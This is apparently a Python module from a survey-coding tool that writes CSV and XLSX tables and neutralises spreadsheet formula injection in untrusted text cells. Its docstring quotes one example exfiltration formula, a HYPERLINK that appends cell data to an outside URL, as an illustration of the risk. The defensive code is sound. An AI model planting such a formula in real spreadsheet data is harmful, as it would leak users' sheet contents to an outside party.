"""Tables to CSV and XLSX: the one writer behind every table autocode writes.

Survey answers, code names and respondent attributes are untrusted text. A spreadsheet
opens a cell such as ``=HYPERLINK("http://…/?q="&A1,"click")`` as a live formula, which can
send the sheet's data away (OWASP "CSV Injection", CWE-1236). So:

- **XLSX**: a cell that holds text is always written as a string cell — never a formula,
  an error value or a hyperlink — whatever it starts with; numbers autocode computed
  (counts, kappa, confidence) stay numbers. A character XML cannot hold becomes a space
  (:mod:`autocode.chars`); text longer than Excel's cell limit (32,767 characters) is cut.
- **CSV**: as OWASP advises, a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or
  a carriage return (also after leading spaces or line breaks) is prefixed with a single
  quote ``'``, which spreadsheets take as "this is text". Plain numbers (``-5``, ``+0.25``)
  and the numbers autocode computed (a kappa of -0.2) are written as they are. A cell that
  already starts with a quote before such text gets one more quote, so :func:`unneutralise`
  — applied by every autocode CSV reader — gives back exactly the original text.
- ``AUTOCODE_RAW_CSV=1`` in the environment writes CSV cells raw, for R, pandas or Stata
  (do not open such a file in a spreadsheet program).
"""

from __future__ import annotations

import contextlib
import csv
import io
import math
import os
import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

from .chars import xml_safe
from .files import atomic_write, check_output, output_format

if TYPE_CHECKING:  # pragma: no cover
    import pandas as pd

#: the table formats and their extensions
TABLE_FORMATS = {"csv": (".csv",), "xlsx": (".xlsx",)}
RAW_CSV_ENV = "AUTOCODE_RAW_CSV"
XLSX_CELL_LIMIT = 32767
_TRIGGERS = "=+-@"
_LEAD = " \t\r\n"
#: a cell that starts with none of these is never formula-like (the fast path)
_LOOK_CLOSER = frozenset("'" + _TRIGGERS + _LEAD)
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def table_format(
    path: str | os.PathLike | None, fmt: str | None = None, option: str = "--out"
) -> str:
    """``csv`` or ``xlsx`` for an output path (see :func:`autocode.files.output_format`)."""
    return output_format(path, fmt, TABLE_FORMATS, "csv", option)


def check_table_output(
    path: str | os.PathLike, fmt: str | None = None, option: str = "--out"
) -> str:
    """Check a table output before any work: writable path and a known format (returned)."""
    f = table_format(path, fmt, option)
    check_output(path, option)
    return f


def raw_csv() -> bool:
    """Whether ``AUTOCODE_RAW_CSV`` asks for raw CSV cells (1, true or yes)."""
    return os.environ.get(RAW_CSV_ENV, "").strip().lower() in ("1", "true", "yes", "on")


# -- CSV cells ------------------------------------------------------------------------------
def _formula_like(s: str) -> bool:
    if not s:
        return False
    if s[0] in "\t\r":
        return True
    rest = s.lstrip(_LEAD)
    return bool(rest) and rest[0] in _TRIGGERS and not _PLAIN_NUMBER.fullmatch(rest.rstrip())


def needs_quote(s: str) -> bool:
    """Whether :func:`neutralise` prefixes ``s`` with a quote: formula-like text, also
    behind quotes already there (so that :func:`unneutralise` is its exact inverse)."""
    if not s or s[0] not in _LOOK_CLOSER:  # most answers: nothing to look at further
        return False
    return _formula_like(s.lstrip("'"))


def neutralise(s: str) -> str:
    """``s`` as a CSV cell a spreadsheet will not run as a formula (OWASP: prefix ``'``)."""
    return "'" + s if needs_quote(s) else s


def unneutralise(s: str) -> str:
    """The inverse of :func:`neutralise` (autocode's CSV readers apply it to every cell)."""
    return s[1:] if s[:1] == "'" and needs_quote(s[1:]) else s


def _plain(v: Any) -> Any:
    """A Python value for a cell: None for missing, int/float/bool kept, text otherwise."""
    if v is None:
        return None
    if hasattr(v, "item") and not isinstance(v, (str, bytes)):  # numpy scalar
        with contextlib.suppress(ValueError, TypeError):
            v = v.item()
    if isinstance(v, bool):
        return v
    if isinstance(v, int):
        return v
    if isinstance(v, float):
        if math.isnan(v):
            return None
        return v if math.isfinite(v) else str(v)
    if isinstance(v, str):
        return v
    try:
        import pandas as pd

        if v is pd.NA or v is pd.NaT:
            return None
    except ImportError:  # pragma: no cover
        pass
    return str(v)


def csv_cell(v: Any, raw: bool | None = None) -> str:
    """One CSV cell: numbers as they are, text neutralised unless ``raw``."""
    if type(v) is not str:  # text, the common case, needs no conversion
        v = _plain(v)
        if v is None:
            return ""
        if not isinstance(v, str):
            return str(v)
    return v if (raw_csv() if raw is None else raw) else neutralise(v)


def csv_text(header: Sequence[Any], rows: Iterable[Sequence[Any]], raw: bool | None = None) -> str:
    """The CSV text of a table (header row first)."""
    raw = raw_csv() if raw is None else raw
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    w.writerow([csv_cell(h, raw) for h in header])
    for r in rows:
        w.writerow([csv_cell(v, raw) for v in r])
    return out.getvalue()


def write_csv(
    path: str | os.PathLike,
    header: Sequence[Any],
    rows: Iterable[Sequence[Any]],
    raw: bool | None = None,
) -> None:
    """Write a CSV file (UTF-8), atomically."""
    raw = raw_csv() if raw is None else raw

    def write(tmp: str) -> None:
        with open(tmp, "w", newline="", encoding="utf-8") as fh:
            w = csv.writer(fh, lineterminator="\n")
            w.writerow([csv_cell(h, raw) for h in header])
            for r in rows:
                w.writerow([csv_cell(v, raw) for v in r])

    atomic_write(path, write)


# -- XLSX cells -----------------------------------------------------------------------------
def xlsx_cell(ws, v: Any):
    """An openpyxl cell for worksheet ``ws`` (None for an empty one): text is a string cell
    whatever it starts with (openpyxl would make ``=...`` a formula, ``#N/A`` an error)."""
    from openpyxl.cell import WriteOnlyCell

    v = _plain(v)
    if v is None:
        return None
    if isinstance(v, str):
        c = WriteOnlyCell(ws, value=xml_safe(v)[:XLSX_CELL_LIMIT])
        c.data_type = "s"
        return c
    return WriteOnlyCell(ws, value=v)


def append_row(ws, values: Sequence[Any]) -> None:
    """Append one row of values to an openpyxl worksheet (normal or write-only) through
    :func:`xlsx_cell`."""
    ws.append([xlsx_cell(ws, v) for v in values])


def write_xlsx(
    path: str | os.PathLike, sheets: Sequence[tuple[str, Sequence[Any], Iterable[Sequence[Any]]]]
) -> None:
    """Write an XLSX workbook, atomically: ``sheets`` is ``(name, header, rows)`` each."""
    from openpyxl import Workbook

    def write(tmp: str) -> None:
        wb = Workbook(write_only=True)
        for name, header, rows in sheets:
            ws = wb.create_sheet(sheet_title(name))
            append_row(ws, header)
            for r in rows:
                append_row(ws, r)
        wb.save(tmp)

    atomic_write(path, write)


def sheet_title(name: str) -> str:
    """A valid Excel sheet name: none of []:*?/\\, not quoted, at most 31 characters."""
    return re.sub(r"[\[\]:*?/\\]", " ", xml_safe(str(name)))[:31].strip("'") or "Sheet1"


# -- tables ---------------------------------------------------------------------------------
def write_table(
    path: str | os.PathLike,
    header: Sequence[Any],
    rows: Iterable[Sequence[Any]],
    fmt: str | None = None,
    sheet: str = "Sheet1",
    raw: bool | None = None,
) -> str:
    """Write one table as CSV or XLSX (by the extension, see :func:`table_format`)."""
    f = table_format(path, fmt)
    if f == "xlsx":
        write_xlsx(path, [(sheet, header, rows)])
    else:
        write_csv(path, header, rows, raw)
    return f


def frame_rows(df: pd.DataFrame) -> tuple[list[str], list[list[Any]]]:
    """(header, rows) of a DataFrame, cells as plain Python values."""
    return [str(c) for c in df.columns], df.astype(object).values.tolist()


def write_frame(
    path: str | os.PathLike,
    df: pd.DataFrame,
    fmt: str | None = None,
    sheet: str = "Sheet1",
    raw: bool | None = None,
) -> str:
    """Write a DataFrame (no index) as CSV or XLSX; returns the format written."""
    header, rows = frame_rows(df)
    return write_table(path, header, rows, fmt, sheet, raw)


def write_frames(path: str | os.PathLike, sheets: Sequence[tuple[str, pd.DataFrame]]) -> None:
    """Several DataFrames as the sheets of one XLSX workbook."""
    write_xlsx(path, [(name, *frame_rows(df)) for name, df in sheets])


__all__ = [
    "RAW_CSV_ENV",
    "TABLE_FORMATS",
    "append_row",
    "check_table_output",
    "csv_cell",
    "csv_text",
    "frame_rows",
    "needs_quote",
    "neutralise",
    "raw_csv",
    "sheet_title",
    "table_format",
    "unneutralise",
    "write_csv",
    "write_frame",
    "write_frames",
    "write_table",
    "write_xlsx",
]
